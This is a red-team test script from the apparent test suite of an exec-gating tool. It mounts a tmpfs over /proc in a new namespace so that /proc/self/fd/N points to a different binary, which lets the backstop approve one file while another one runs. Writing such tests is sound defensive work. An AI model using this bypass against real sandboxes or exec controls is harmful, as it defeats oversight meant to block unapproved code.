"""Red team (tests/e2e/test_attack_query_by_exec2.py): a marked exec whose ``/proc/self/fd/N``
the kernel resolves through a ``/proc`` of the caller's own making (standard library only).

The backstop takes ``/proc/self/fd/N`` as "the caller's fd N" and identifies it through the
server's own ``/proc/TID/fd/N``; the kernel, after ``CONTINUE``, looks the path up in the
caller's mount namespace, where the caller (root, or anyone with a user namespace, when no
sandbox confines it) has mounted a tmpfs over ``/proc`` holding ``self/fd/N`` = another file.

Usage:
    python3 qbe_proc_over.py FILE NAME EVIL ARGV0 [ARGV1 ...]
        FILE: what fd N is open on (judged); NAME: the 6th argument; EVIL: what actually runs.
    python3 qbe_proc_over.py --plain FILE NAME EVIL ARGV0 ...: the same exec without the mark
    python3 qbe_proc_over.py --asked FILE NAME EVIL ARGV0 ...: first a full request over the
        session's socket for NAME with fd N as its target (as the wrapper sends it: a Run makes
        the backstop expect that file and argv from this process), then the plain exec
Prints ``EXEC <errno name>`` on failure.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys

SYS_EXECVE = 59  # x86_64
MARK = 0x45584547
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_REC, MS_PRIVATE = 0x4000, 1 << 18


def main() -> None:
    args = sys.argv[1:]
    plain = args[0] in ("--plain", "--asked")
    asked = args[0] == "--asked"
    if plain:
        args = args[1:]
    file, name, evil, argv = args[0], args[1], args[2], args[3:]
    token = int(os.environ.get("EXECGATE_BACKSTOP_QUERY", "1"))
    with open(evil, "rb") as f:
        payload = f.read()
    fd = os.open(file, os.O_PATH | os.O_CLOEXEC)
    if asked:
        from execgate.wrapper import client
        env = dict(os.environ)
        answer = client.request_decision(client.connect(env), name, argv, env, fd)
        print("ASKED", answer.action, flush=True)
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.geteuid(), os.getegid()
    flags = CLONE_NEWNS if uid == 0 else CLONE_NEWNS | CLONE_NEWUSER
    if libc.unshare(flags) != 0:
        print("UNSHARE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    if uid != 0:  # keep our own ids inside the new user namespace
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"{uid} {uid} 1")
        with open("/proc/self/gid_map", "w") as f:
            f.write(f"{gid} {gid} 1")
    if libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) != 0:
        print("PRIVATE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    if libc.mount(b"none", b"/proc", b"tmpfs", 0, None) != 0:
        print("MOUNT", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    os.makedirs("/proc/self/fd")
    with open(f"/proc/self/fd/{fd}", "wb") as f:
        f.write(payload)
    os.chmod(f"/proc/self/fd/{fd}", 0o755)
    cargv = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
    env = [f"{k}={v}".encode() for k, v in os.environ.items()]
    envp = (ctypes.c_char_p * (len(env) + 1))(*env, None)
    libc.syscall.restype = ctypes.c_long
    sys.stdout.flush()
    if plain:
        libc.syscall(ctypes.c_long(SYS_EXECVE), f"/proc/self/fd/{fd}".encode(), cargv, envp)
    else:
        libc.syscall(ctypes.c_long(SYS_EXECVE), f"/proc/self/fd/{fd}".encode(), cargv, envp, ctypes.c_long(MARK),
                     ctypes.c_long(token), ctypes.c_char_p(name.encode()))
    print("EXEC", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()), flush=True)


if __name__ == "__main__":
    main()
